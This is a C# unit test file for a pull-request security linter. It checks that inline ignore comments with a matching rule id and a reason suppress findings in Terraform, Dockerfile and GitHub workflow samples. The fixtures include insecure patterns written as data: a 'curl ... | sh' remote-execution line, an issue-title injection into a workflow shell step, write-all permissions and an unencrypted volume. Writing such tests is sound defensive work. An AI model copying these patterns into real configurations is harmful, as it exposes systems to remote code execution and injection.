namespace PrGate.Checks.Tests.Lint;

/// <summary>Comments of HCL, Dockerfiles and workflows accept findings as those of manifests do.</summary>
public sealed class LanguageSuppressionTests
{
    [Theory]
    [InlineData("PG7001", "main.tf", "resource \"aws_ebs_volume\" \"a\" {\n  encrypted = false§\n}\n")]
    [InlineData("PG7001", "main.tf", "resource \"aws_ebs_volume\" \"a\" {\n  §\n  encrypted = false\n}\n")]
    [InlineData("PG6101", "Dockerfile", "FROM a:1\n§\nRUN curl https://e.example | sh\nUSER 1\n")]
    [InlineData("PG6101", "Dockerfile", "FROM a:1\nRUN true && \\\n§\n  curl https://e.example | sh\nUSER 1\n")]
    [InlineData("PG6001", ".github/workflows/a.yaml", "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.event.issue.title }}§\n")]
    [InlineData("PG6002", ".github/workflows/a.yaml", "on: issues\npermissions: write-all§\njobs:\n  a: {uses: ./b.yaml}\n")]
    public void A_comment_with_a_reason_accepts_what_stands_on_its_line_or_the_next(string rule, string path, string marked)
    {
        Assert.Equal((FindingStatus.New, null), Only(""));
        Assert.Equal((FindingStatus.Suppressed, "looked at"), Only($" # prgate:ignore {rule} looked at"));
        Assert.Equal((FindingStatus.New, null), Only($" # prgate:ignore {rule}"));
        Assert.Equal((FindingStatus.New, null), Only(" # prgate:ignore PG1001 looked at"));

        (FindingStatus, string?) Only(string comment)
        {
            var file = Given.File(path, marked.Replace("§", comment, StringComparison.Ordinal));
            var verdict = Gate.Judge(new GateInput(Given.PullRequest(file), Given.Defaults, Given.Now) { IsFolder = true });
            var found = Assert.Single(verdict.Findings, f => f.Rule == rule);
            return (found.Status, found.Suppression);
        }
    }
}
